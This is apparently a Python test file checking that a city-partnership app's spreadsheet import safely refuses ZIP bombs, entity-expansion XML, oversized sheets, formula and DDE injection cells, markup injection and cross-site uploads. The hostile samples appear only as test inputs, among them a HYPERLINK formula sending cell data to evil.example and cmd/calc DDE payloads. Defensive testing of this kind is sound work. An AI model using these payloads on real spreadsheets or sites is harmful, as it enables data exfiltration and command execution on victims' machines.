"""Hostile spreadsheets (tests/hostile/files.py): each attack tried against the server is
refused with a clear message, or read with its problem named, at a bounded cost: the time and
the Python memory of the call are measured here, with bounds far below what the attack cost
before the import was hardened (gigabytes, tens of seconds)."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import defusedxml
import openpyxl.xml
import pytest
from openpyxl.xml.functions import fromstring

from app import create_app
from citylinks.errors import DataError
from citylinks.importing.folder import write_folder, zip_folder
from citylinks.importing.places import CloseNameBudget, parse_home, pending_problem
from citylinks.importing.prepare import prepare
from citylinks.importing.source import read_source
from tests.hostile import files as hostile

MB = 1024 * 1024


def _measured(call: Callable[[], Any]) -> tuple[Any, float, float]:
    """What the call returned (or the DataError it raised), its seconds, its peak MB."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        result = call()
    except DataError as err:
        result = err
    seconds = time.perf_counter() - start
    peak = tracemalloc.get_traced_memory()[1] / MB
    tracemalloc.stop()
    return result, seconds, peak


def _refused(name: str, content: bytes, seconds: float = 3.0, megabytes: float = 150):
    error, spent, peak = _measured(lambda: read_source(name, content))
    assert isinstance(error, DataError), f"{name} was not refused"
    assert spent < seconds and peak < megabytes, (spent, peak)
    return str(error.problems[0])


@pytest.mark.parametrize("member", ["xl/theme/theme1.xml", "xl/sharedStrings.xml"])
def test_imh001_a_zip_bomb_named_xlsx_is_refused_from_its_directory(member):
    content = hostile.xlsx_bomb(member)  # 1 MB that unpacks to 1 GiB
    assert len(content) < 1.1 * MB
    message = _refused("bomb.xlsx", content, seconds=0.5, megabytes=10)
    assert f"part '{member}' unpacks 1,0" in message and "(a ZIP bomb?)" in message


def test_imh002_a_directory_that_lies_about_sizes_stops_at_the_size_it_gives():
    message = _refused("lying.xlsx", hostile.xlsx_lying_bomb(), seconds=1, megabytes=20)
    assert "this Excel workbook cannot be read (Bad CRC-32" in message


def test_imh003_more_parts_or_more_unpacked_bytes_than_a_partners_sheet_needs():
    assert "1,010 parts; the limit is 1,000" in _refused("p.xlsx", hostile.xlsx_many_parts())
    assert "unpacks to 60.0 MB; the limit is 50.0 MB" in _refused(
        "u.xlsx", hostile.xlsx_big_unpacked()
    )


def test_imh004_a_row_at_line_two_billion_stops_at_the_row_limit():
    content = hostile.xlsx_far_row()
    assert len(content) < 8_000
    message = _refused("far.xlsx", content, seconds=5, megabytes=20)
    assert "line 11001: the first sheet goes on past row 11,000 (empty rows count too)" in message


def test_imh005_openpyxl_parses_through_defusedxml():
    assert openpyxl.xml.DEFUSEDXML is True
    with pytest.raises(defusedxml.EntitiesForbidden):
        fromstring('<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    message = _refused("laughs.xlsx", hostile.xlsx_billion_laughs(), seconds=1, megabytes=10)
    assert "this Excel workbook cannot be read" in message


def test_imh006_one_long_string_repeated_in_every_cell_is_bounded_as_text():
    content = hostile.xlsx_repeated_long_string()  # 27 million characters from a few kB
    assert len(content) < 20_000
    message = _refused("strings.xlsx", content, seconds=3, megabytes=60)
    assert "the table holds more than 20,000,000 characters" in message


def test_imh007_sheets_too_big_or_too_wide_are_refused_by_their_declared_size():
    row = hostile.inline_row(1, {"A": "city"})
    forged = _refused("forged.xlsx", hostile.xlsx_with_sheet(row, "A1:A2000000"))
    assert "says it is 2,000,000 rows by 1 columns, more than Excel allows" in forged
    wide = _refused("wide.xlsx", hostile.xlsx_with_sheet(row, "A1:IP2"))
    assert "the first sheet has 250 columns; the limit is 200" in wide
    past = hostile.inline_row(2, {"A": "Rome", "GS": "x"})
    assert "values past column 200" in _refused("past.xlsx", hostile.xlsx_with_sheet(row + past))


def test_imh008_a_value_past_the_header_is_a_problem_of_its_row_never_lost():
    rows = (
        hostile.inline_row(1, {"A": "city", "B": "country", "C": "year"})
        + hostile.inline_row(2, {"A": "Turin", "B": "IT", "C": "1956"})
        + hostile.inline_row(3, {"A": "Lyon", "B": "FR", "C": "1960", "E": "note"})
    )
    source = read_source("beyond.xlsx", hostile.xlsx_with_sheet(rows))
    assert source.lines == [2] and 3 in source.unsplit
    assert "line 3: this row has values in columns the header does not name" in str(
        source.problems[0]
    )


def test_imh009_a_header_of_five_million_columns_is_refused():
    content = hostile.wide_header_csv()
    message = _refused("wide.csv", content, seconds=3, megabytes=300)
    assert "line 1: the header has 5,000,000 columns; the limit is 200" in message


def test_imh010_a_long_cell_is_named_and_the_rows_after_it_are_read():
    source = read_source("cell.csv", hostile.long_cell_csv())
    assert [str(p) for p in source.problems] == [
        "cell.csv, line 3, column 'notes': this cell has 130,000 characters; the limit is 10,000"
    ]
    result = prepare(source, today=None)
    assert sorted(result.partners["city"]) == ["Madrid", "Turin"]
    assert [line for line, _, _ in result.rejected] == [3]


def test_imh011_nul_bytes_anywhere_and_a_five_megabyte_header_are_refused():
    assert "line 1501: this is not a text file (it contains NUL bytes)" in _refused(
        "nul.csv", hostile.late_nul_csv()
    )
    message = _refused("header.csv", hostile.long_header_csv())
    assert "line 1, column '#1': this cell has 5,242,780 characters; the limit is 10,000" in message


def test_imh012_thousands_of_misspelt_names_cost_seconds_not_minutes():
    source = read_source("typos.csv", hostile.misspelt_us_csv())
    result, spent, _ = _measured(lambda: prepare(source, budget=CloseNameBudget(seconds=1.0)))
    assert spent < 8, spent  # the rows themselves, and at most 1 s of close-name searches
    assert len(result.pending) > 9_000
    searched = [p for p in result.pending if p.searched]
    waiting = [p for p in result.pending if not p.searched]
    assert searched and waiting
    assert all(p.candidates == () for p in waiting)
    problem = pending_problem(waiting[0], source.name)
    assert problem.code == "pending.not_searched"
    assert "close names were not searched (too many unknown names" in problem.message


def test_imh013_invisible_direction_and_control_characters_are_removed_and_counted():
    content = "city,country,year\n\u202eRome\u202c,IT,1956\nTu\u200frin\x07,IT,1956\n".encode()
    source = read_source("bidi.csv", content)
    assert source.rows == [["Rome", "IT", "1956"], ["Turin", "IT", "1956"]]
    assert source.cleaned == 2


def test_imh014_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    result = prepare(read_source("formulas.csv", hostile.formula_csv()))
    rejected = list(csv.reader(io.StringIO(result.rejected_csv().decode("utf-8-sig"))))
    cells = [cell for row in rejected[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1;"click")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell[:1] in "=+@" for cell in cells if cell)
    write_folder(result, parse_home("Lyon, FR"), tmp_path)
    with zipfile.ZipFile(io.BytesIO(zip_folder(tmp_path))) as archive:
        partners = archive.read("partners.csv").decode("utf-8-sig")
    assert "'+cmd|' /C calc'!A0" in partners and "'-2+3" in partners
    assert ",45.07" in partners or ",45.0" in partners  # numbers stay numbers
    assert "\n+cmd" not in partners and ",+cmd" not in partners


def test_imh015_the_home_city_is_the_gazetteers_place_never_the_text_typed():
    home = parse_home("Lyon, </title><meta http-equiv=refresh content='0;url=//evil'>, FR")
    assert home.city == "Lyon" and home.country_code == "FR"


def test_imh016_a_home_name_with_markup_stays_text_in_the_page_title(tmp_path, data_copy):
    home = data_copy / "home.csv"
    text = home.read_text(encoding="utf-8-sig")
    home.write_text(
        text.replace("\nParis,", '\n"Paris</title><meta http-equiv=refresh content=0>",', 1),
        encoding="utf-8-sig",
    )
    page = create_app(data_copy, imports=False).server.test_client().get("/").get_data(True)
    assert "<meta http-equiv=refresh" not in page
    assert "<title>CityLinks: Paris&lt;/title&gt;&lt;meta" in page


def test_imh017_state_changing_requests_from_another_site_are_refused(dataset, tmp_path):
    from citylinks.importing.workspace import store_in

    client = create_app(data=dataset, imports=store_in(tmp_path)).server.test_client()

    def upload(**headers):
        return client.post(
            "/_citylinks/import",
            data={"file": (io.BytesIO(b"city,country,year\nTurin,IT,1956\n"), "a.csv")},
            content_type="multipart/form-data",
            headers=headers,
        )

    assert upload(**{"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert upload(**{"Sec-Fetch-Site": "same-site"}).status_code == 403
    assert upload(Origin="http://evil.example").status_code == 403
    assert upload(Origin="null").status_code == 403
    assert upload(**{"Sec-Fetch-Site": "same-origin"}).status_code == 200
    assert upload(Origin="http://localhost").status_code == 200
    assert upload().status_code == 200  # no browser header: a script, not a page elsewhere
    callback = client.post(
        "/_dash-update-component", json={}, headers={"Sec-Fetch-Site": "cross-site"}
    )
    assert callback.status_code == 403
    assert client.get("/", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200
